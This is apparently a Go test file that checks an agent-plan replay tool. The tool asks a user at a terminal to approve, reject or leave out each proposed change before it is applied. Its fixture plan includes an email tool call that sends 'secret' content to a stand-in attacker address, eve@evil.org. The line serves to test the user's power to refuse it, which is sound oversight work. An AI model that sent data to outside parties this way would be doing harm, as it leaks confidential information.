package main

import (
	"bytes"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"legomem/must"
)

// turn is a question that is waited for, and what is typed then.
type turn struct{ question, typed string }

// converse answers questions at a terminal, in their order, and returns all that was shown.
func converse(person *os.File, turns []turn) <-chan string {
	seen := make(chan string, 1)
	go func() {
		var all strings.Builder
		at, buf := 0, make([]byte, 4096)
		for {
			n, err := person.Read(buf)
			all.Write(buf[:n])
			if now := all.String()[at:]; strings.HasSuffix(now, ": ") && strings.Contains(now, "[n]o") {
				if len(turns) == 0 || !strings.Contains(now, turns[0].question) {
					_ = person.Close() // another question than was waited for: nobody answers it
					seen <- all.String()
					return
				}
				at = all.Len()
				_, _ = person.WriteString(turns[0].typed + "\n") // where it fails, the question stays open
				turns = turns[1:]
			}
			if err != nil { // the program has closed its side
				seen <- all.String()
				return
			}
		}
	}()
	return seen
}

// TestAskedAtTheEnd: a run at a terminal ends with the list of its changes and a question,
// and does with each what is answered.
func TestAskedAtTheEnd(t *testing.T) {
	const single, rest = "[q]uit: ", "[l]eave some out"
	plan := `task: Tell Lee and Kim about it, and write notes.txt
user: Sam
date: "2026-03-02 09:00"
subtasks:
  - agent: email_agent
    description: Tell them
    actions:
      - tool: email.send
        args: {to: [Lee@example.com], subject: Hi, content: hello}
      - tool: email.send
        args: {to: [eve@evil.org], subject: Psst, content: secret}
  - agent: system_agent
    description: Note it
    actions:
      - tool: system.write_text
        args: {file_path: notes.txt, content: noted}
`
	lee, eve, note := "emails/Lee/Hi.eml", "emails/Sam/Psst.eml", "data/notes.txt"
	for name, tc := range map[string]struct {
		turns []turn
		want  []string // of these, what the office holds afterwards
	}{
		"yes to all":            {[]turn{{single, "y"}, {rest, "y"}}, []string{lee, eve, note}},
		"no to the marked one":  {[]turn{{single, "d"}, {single, "n"}, {rest, "y"}}, []string{lee, note}},
		"no":                    {[]turn{{single, "y"}, {rest, "n"}}, nil},
		"quit":                  {[]turn{{single, "q"}}, nil},
		"leave one out":         {[]turn{{single, "n"}, {rest, "l 9"}, {rest, "leave 3"}, {rest, "y"}}, []string{note}},
		"nonsense, and then no": {[]turn{{single, "perhaps"}, {single, "n"}, {rest, "perhaps"}, {rest, "no"}}, nil},
	} {
		t.Run(name, func(t *testing.T) {
			usedHome(t) // of its own, where nobody has agreed to anything
			office := filepath.Join(t.TempDir(), "office")
			must.Do(t, os.MkdirAll(filepath.Join(office, "data"), 0o700))
			demo := filepath.Join(t.TempDir(), "plan.yaml")
			must.Do(t, os.WriteFile(demo, []byte(plan+"testbed: "+office+"\n"), 0o600))
			person, program := terminal(t)
			seen := converse(person, tc.turns)
			var out bytes.Buffer
			code := Execute(t.Context(), []string{"demo", "play", demo}, program, &out, program)
			must.Do(t, program.Close())
			shown := <-seen
			var held []string
			for _, file := range []string{lee, eve, note} {
				if _, err := os.Stat(filepath.Join(office, file)); err == nil {
					held = append(held, file)
				}
			}
			if code != exitDone || !slices.Equal(held, tc.want) {
				t.Errorf("exit code %d, and the office holds %v, not %v\n%s\n%s", code, held, tc.want, shown, &out)
			}
		})
	}
}
